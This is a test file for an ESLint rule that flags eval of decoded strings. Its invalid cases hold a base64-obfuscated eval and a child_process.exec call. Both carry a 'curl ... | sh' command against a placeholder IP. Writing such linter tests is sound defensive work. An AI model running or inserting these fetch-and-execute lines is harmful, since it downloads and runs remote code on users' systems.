const { RuleTester } = require('eslint');
const rule = require('../lib').rules['no-eval-decode'];
new RuleTester().run('no-eval-decode', rule, {
  valid: ['JSON.parse(atob(x))'],
  invalid: [
    { code: "eval(atob('Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA=='))", errors: 1 },
    { code: "eval(atob(payload)); require('child_process').exec('curl http://192.0.2.1/x | sh')", errors: 1 },
  ],
});
